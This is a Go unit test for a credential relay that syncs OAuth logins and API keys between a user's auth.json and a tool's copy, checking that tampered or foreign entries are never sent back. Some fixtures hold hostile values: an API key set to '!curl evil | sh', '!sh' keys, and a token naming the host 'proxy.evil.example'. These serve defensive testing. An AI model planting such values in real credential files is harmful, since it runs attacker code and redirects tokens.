package pi

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"
)

func TestRelayAuth(t *testing.T) {
	now := time.UnixMilli(1_800_000_000_000)
	hour := int64(time.Hour / time.Millisecond)
	exp := now.UnixMilli() + hour
	// gone is a login that has just expired: Pi refreshes it at its next
	// request, and the relay takes the refresh back.
	gone := now.UnixMilli() - 1000
	jwt := func(account string) string {
		payload := base64.RawURLEncoding.EncodeToString([]byte(fmt.Sprintf(`{"https://api.openai.com/auth":{"chatgpt_account_id":%q}}`, account)))
		return "eyJhbGciOiJSUzI1NiJ9." + payload + ".sig"
	}
	oauth := func(access, refresh string, expires int64, extra string) string {
		return fmt.Sprintf(`{"type":"oauth","access":%q,"refresh":%q,"expires":%d%s}`, access, refresh, expires, extra)
	}
	key := `{"type":"api_key","key":"sk-user"}`
	cases := []struct {
		name          string
		user, own     string
		back, forward []string
		wantUser      map[string]string // provider: credential JSON, when toUser is written
		wantOwn       map[string]string
	}{
		{
			name: "the same login both sides",
			user: `{"anthropic":` + oauth("a1", "r1", exp, "") + `}`,
			own:  `{"anthropic":` + oauth("a1", "r1", exp, "") + `}`,
		},
		{
			name:     "the engine refreshed: back to the user, other fields kept",
			user:     `{"anthropic":` + oauth("a1", "r1", gone, `,"projectId":"p"`) + `,"openai":` + key + `}`,
			own:      `{"anthropic":` + oauth("a2", "r2", exp, `,"projectId":"tool"`) + `,"openai":` + key + `}`,
			back:     []string{"anthropic"},
			wantUser: map[string]string{"anthropic": oauth("a2", "r2", exp, `,"projectId":"p"`), "openai": key},
		},
		{
			name:    "a newer login before the user's expired is no refresh of Pi's: the user's goes over it",
			user:    `{"anthropic":` + oauth("a1", "r1", exp, "") + `}`,
			own:     `{"anthropic":` + oauth("a2", "r2", exp+hour, "") + `}`,
			forward: []string{"anthropic"},
			wantOwn: map[string]string{"anthropic": oauth("a1", "r1", exp, "")},
		},
		{
			name:     "Pi's refresh within five minutes of the expiry goes back",
			user:     `{"anthropic":` + oauth("a1", "r1", now.Add(4*time.Minute).UnixMilli(), "") + `}`,
			own:      `{"anthropic":` + oauth("a2", "r2", exp+8*hour, "") + `}`,
			back:     []string{"anthropic"},
			wantUser: map[string]string{"anthropic": oauth("a2", "r2", exp+8*hour, "")},
		},
		{
			name:    "the user's new login goes over a longer one a tool put back",
			user:    `{"anthropic":` + oauth("a4", "r4", exp, "") + `}`,
			own:     `{"anthropic":` + oauth("tool", "tool", now.Add(89*24*time.Hour).UnixMilli(), "") + `}`,
			forward: []string{"anthropic"},
			wantOwn: map[string]string{"anthropic": oauth("a4", "r4", exp, "")},
		},
		{
			name: "the user's expired login never goes over the engine's refresh",
			user: `{"github-copilot":` + oauth("tid=1;proxy-ep=proxy.individual.githubcopilot.com;", "gho_1", gone, "") + `}`,
			own:  `{"github-copilot":` + oauth("tid=2;proxy-ep=proxy.individual.githubcopilot.com;", "gho_1", exp, "") + `}`,
		},
		{
			name: "GitHub Copilot's access token names its API host: never back",
			user: `{"github-copilot":` + oauth("tid=1;proxy-ep=proxy.individual.githubcopilot.com;", "gho_1", gone, "") + `}`,
			own:  `{"github-copilot":` + oauth("tid=1;proxy-ep=proxy.evil.example;", "gho_1", exp, "") + `}`,
		},
		{
			name: "a provider unknown here: never back",
			user: `{"my-gateway":` + oauth("a1", "r1", gone, "") + `}`,
			own:  `{"my-gateway":` + oauth("a2", "r2", exp, "") + `}`,
		},
		{
			name:     "openai-codex, the same account: back",
			user:     `{"openai-codex":` + oauth(jwt("acct-1"), "r1", gone, `,"accountId":"acct-1"`) + `}`,
			own:      `{"openai-codex":` + oauth(jwt("acct-1")+"x", "r2", exp, `,"accountId":"acct-1"`) + `}`,
			back:     []string{"openai-codex"},
			wantUser: map[string]string{"openai-codex": oauth(jwt("acct-1")+"x", "r2", exp, `,"accountId":"acct-1"`)},
		},
		{
			name: "openai-codex, another account: never back",
			user: `{"openai-codex":` + oauth(jwt("acct-1"), "r1", gone, "") + `}`,
			own:  `{"openai-codex":` + oauth(jwt("acct-evil"), "r2", exp, "") + `}`,
		},
		{
			name: "openai-codex, the account under a name Pi does not read: never back",
			user: `{"openai-codex":` + oauth(jwt("acct-1"), "r1", gone, "") + `}`,
			own: `{"openai-codex":` + oauth("eyJhbGciOiJSUzI1NiJ9."+base64.RawURLEncoding.EncodeToString([]byte(
				`{"https://api.openai.com/auth":{"CHATGPT_ACCOUNT_ID":"acct-1"}}`))+".sig", "r2", exp, "") + `}`,
		},
		{
			name:    "GitHub Copilot forward: the user's file is the user's",
			user:    `{"github-copilot":` + oauth("tid=2;proxy-ep=proxy.individual.githubcopilot.com;", "gho_1", exp, "") + `}`,
			own:     `{"github-copilot":` + oauth("tid=1;proxy-ep=proxy.individual.githubcopilot.com;", "gho_1", gone, "") + `}`,
			forward: []string{"github-copilot"},
			wantOwn: map[string]string{"github-copilot": oauth("tid=2;proxy-ep=proxy.individual.githubcopilot.com;", "gho_1", exp, "")},
		},
		{
			name:    "another conversation refreshed: forward to the engine",
			user:    `{"anthropic":` + oauth("a3", "r3", exp+2*hour, "") + `}`,
			own:     `{"anthropic":` + oauth("a1", "r1", exp, "") + `,"mine":{"type":"api_key","key":"k"}}`,
			forward: []string{"anthropic"},
			wantOwn: map[string]string{"anthropic": oauth("a3", "r3", exp+2*hour, ""), "mine": `{"type":"api_key","key":"k"}`},
		},
		{
			name: "an API key the copy changed never goes back",
			user: `{"openai":` + key + `}`,
			own:  `{"openai":{"type":"api_key","key":"!curl evil | sh"}}`,
		},
		{
			name: "a provider the copy added never goes back",
			user: `{"anthropic":` + oauth("a1", "r1", gone, "") + `}`,
			own:  `{"anthropic":` + oauth("a1", "r1", gone, "") + `,"evil":{"type":"api_key","key":"!sh"}}`,
		},
		{
			name: "a key turned into a login never goes back",
			user: `{"anthropic":` + key + `}`,
			own:  `{"anthropic":` + oauth("a", "r", exp, "") + `}`,
		},
		{
			name: "a login turned into a key never goes back",
			user: `{"anthropic":` + oauth("a1", "r1", gone, "") + `}`,
			own:  `{"anthropic":{"type":"api_key","key":"!sh"}}`,
		},
		{
			name: "an expiry beyond maxAhead is not taken",
			user: `{"anthropic":` + oauth("a1", "r1", gone, "") + `}`,
			own:  `{"anthropic":` + oauth("a2", "r2", now.Add(maxAhead).UnixMilli()+1, "") + `}`,
		},
		{
			name: "an older login in the copy does not go back",
			user: `{"anthropic":` + oauth("a1", "r1", gone, "") + `}`,
			own:  `{"anthropic":` + oauth("a0", "r0", gone, "") + `}`,
		},
		{
			name: "an empty token is not taken",
			user: `{"anthropic":` + oauth("a1", "r1", gone, "") + `}`,
			own:  `{"anthropic":` + oauth("a2", "", exp, "") + `}`,
		},
		{
			name: "an oversized token is not taken",
			user: `{"anthropic":` + oauth("a1", "r1", gone, "") + `}`,
			own:  `{"anthropic":` + oauth(strings.Repeat("a", maxToken+1), "r2", exp, "") + `}`,
		},
		{
			name: "a copy that is no object moves nothing",
			user: `{"anthropic":` + oauth("a3", "r3", exp+hour, "") + `}`,
			own:  `["anthropic"]`,
		},
		{
			name: "an expiry that is no number moves nothing",
			user: `{"anthropic":` + oauth("a1", "r1", gone, "") + `}`,
			own:  `{"anthropic":{"type":"oauth","access":"a2","refresh":"r2","expires":"9e99"}}`,
		},
		{
			name: "no user file: nothing to relay",
			user: ``,
			own:  `{"anthropic":` + oauth("a2", "r2", exp+hour, "") + `}`,
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			toUser, toOwn, back, forward := RelayAuth([]byte(tc.user), []byte(tc.own), now)
			if !slices.Equal(back, tc.back) || !slices.Equal(forward, tc.forward) {
				t.Fatalf("back %v forward %v, want %v %v", back, forward, tc.back, tc.forward)
			}
			checkAuth(t, "toUser", toUser, tc.wantUser)
			checkAuth(t, "toOwn", toOwn, tc.wantOwn)
		})
	}
}

// checkAuth holds got, an auth.json or nil, to want (nil: not written),
// credential by credential as JSON values.
func checkAuth(t *testing.T, name string, got []byte, want map[string]string) {
	t.Helper()
	if want == nil {
		if got != nil {
			t.Fatalf("%s written: %s", name, got)
		}
		return
	}
	var m map[string]any
	if err := json.Unmarshal(got, &m); err != nil {
		t.Fatalf("%s: %v: %s", name, err, got)
	}
	if len(m) != len(want) {
		t.Fatalf("%s holds %d providers, want %d: %s", name, len(m), len(want), got)
	}
	for p, w := range want {
		var wv any
		if err := json.Unmarshal([]byte(w), &wv); err != nil {
			t.Fatal(err)
		}
		gb, _ := json.Marshal(m[p])
		wb, _ := json.Marshal(wv)
		if string(gb) != string(wb) {
			t.Fatalf("%s[%s] = %s, want %s", name, p, gb, wb)
		}
	}
}
